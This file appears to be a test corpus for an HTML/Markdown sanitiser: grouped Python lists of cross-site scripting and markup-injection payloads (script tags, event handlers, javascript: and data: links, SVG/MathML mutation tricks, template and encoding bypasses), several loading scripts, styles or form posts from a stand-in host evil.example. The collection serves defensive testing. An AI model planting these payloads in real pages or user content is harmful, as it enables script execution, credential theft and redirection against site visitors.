"""Texts that try to run a script, to act as a tag of htmx, or to take over parts of the page: for every way in.

`alert(1)` is what they call; a page shows that one of them worked by a dialog.
"""

SCRIPTS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "</script><script>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<script\x0c>alert(1)</script\x0c>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
]
HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    '"><img src=x onerror=alert(1)>',
    "' autofocus onfocus=alert(1) x='",
    '" onmouseover="alert(1)" x="',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<p style=animation-name:x onanimationstart=alert(1)>x</p>",
]
ADDRESSES = [
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](<java\tscript:alert(1)>)",
    "[a](&#106;avascript:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](\x01javascript:alert(1))",
    "[a](javascript://evil.example/%0aalert(1))",
    "[a](vbscript:msgbox(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[a](//evil.example)",
    "[a](/accounts/logout/)",
    "[a](#main)",
    "<javascript:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "[a]\n\n[a]: javascript:alert(1)",
    "[a]: https://x.example '\"><img src=x onerror=alert(1)>'\n\n[a]",
    '[a](https://x.example "\\"><hx-partial hx-target=\\"#main\\">x</hx-partial>")',
    '[a](https://x.example/"onmouseover="alert(1))',
    "[a](https://x.example/<script>alert(1)</script>)",
    '<a href="javascript:alert(1)">a</a>',
    "https://x.example/'onclick='alert(1)",
    "![a](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    '![" onerror="alert(1)](https://evil.example/a.png)',
    "![<img src=x onerror=alert(1)>](https://evil.example/a.png)",
    "![a](data:image/svg+xml,<svg/onload=alert(1)>)",
]
NAMESPACES = [
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><animate href=#x attributeName=href values=javascript:alert(1) />",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<template><script>alert(1)</script></template>",
]
ELEMENTS = [
    "<style>@import '//evil.example/x.css'; * { display: none }</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<form action=//evil.example><input name=q><button>Send</button></form>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    '<a id="main" name="forms"></a><form id="playground-form" name="cookie"></form>',
    "</textarea></title></div></main><h1>Signed out</h1>",
    "<!--><script>alert(1)</script>-->",
    "<!-- a --!><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><!DOCTYPE html>",
]
HARMLESS = [  # the few tags that are taken, used for more than they are for
    "<sub onclick=alert(1)>x</sub> <kbd style='position:fixed'>x</kbd> <mark id=main>x</mark>",
    "<b><i>x</b></i></u><details><summary>x</details></summary>",
    "<details open ontoggle=alert(1)>\n<summary>x</summary>\n\n<script>alert(1)</script>\n\n</details>",
    "<details>\n<summary><img src=x onerror=alert(1)></summary>\n\n<b>x\n\n</details></b>",
    "| a |\n|---|\n| <ul><li><script>alert(1)</script></li></ul></td></tr></table><td>x |",
    'x[^1]\n\n[^1]: <img src=x onerror=alert(1)>\n[^"onclick=alert(1)]: y[^"onclick=alert(1)]',
    "> [!NOTE]\n> <script>alert(1)</script>\n\n> [!<script>alert(1)</script>]\n> x",
    r"$\ce{<script>alert(1)</script> ->[<img src=x onerror=alert(1)>] x}$ $\SI{<b>}{<i onclick=x>}$",
]
ACTING = [
    '<hx-partial hx-target="#main" hx-swap="innerHTML">x</hx-partial>',
    '</hx-partial><hx-partial hx-target="body">x</hx-partial>',
    '<div hx-get="/keys/" hx-trigger="load" hx-on:load="alert(1)" data-copy="main">x</div>',
    "{{7*7}} {% load static %}{% csrf_token %} ${7*7} #{7*7}",
    '```python" onmouseover="alert(1)\n<script>alert(1)</script>\n```',
    "```<img src=x onerror=alert(1)>\n</code></pre><script>alert(1)</script>\n```",
    "```html\n<img src=x onerror=alert(1)>\n```",
    "`<script>alert(1)</script>`",
    "|<script>alert(1)</script>|b|\n|:-:|-:|\n|<img src=x onerror=alert(1)>|`</td>`|",
    "data: x\n\nevent: close\ndata: <script>alert(1)</script>\n\n",
]
FORMULAS = [
    r"$\href{javascript:alert(1)}{x}$",
    r"$\style{background:url(//evil.example)}{x}$ $\class{ps-top}{x}$ $\cssId{main}{x}$",
    r"$\text{<img src=x onerror=alert(1)>}$",
    r"$$\text{</mtext></math><script>alert(1)</script>}$$",
    r"\(\unicode{x3c}script\unicode{x3e}\) \[\text{&#x3c;script&#x3e;alert(1)}\]",
    r"$\color{red;background:url(//evil.example)}x$ $\rule{9999em}{9999em}$ $\hspace{-999em}x$",
    r"$\def\x{\x\x}\x$ $\newcommand{\a}{<script>}\a$",
    r"$\operatorname{<script>alert(1)</script>}$ $<b>$ $\<img$",
    r"\begin{align}<script>alert(1)</script>&\end{align}",
    r"$\includegraphics{//evil.example/a.png}$ $\require{html}$",
]
ODD = [
    "\x00<script>alert(1)</script>\x00 \x1b[31m \x7f",
    "\u2028<script>alert(1)</script>\u2029 \ufeff \u202ereversed",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E \\u003cscript\\u003e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<img src='x",
    '<a href="https://x.example',
    "```\n<script>",
    "$\\text{<script>",
    '[a](https://x.example "<script>',
]
CORPUS: list[str] = [*SCRIPTS, *HANDLERS, *ADDRESSES, *NAMESPACES, *ELEMENTS, *HARMLESS, *ACTING, *FORMULAS, *ODD]
# As rows hold them: forms refuse NUL, and what a model says has it replaced.
STORABLE: list[str] = [text.replace("\x00", "") for text in CORPUS]
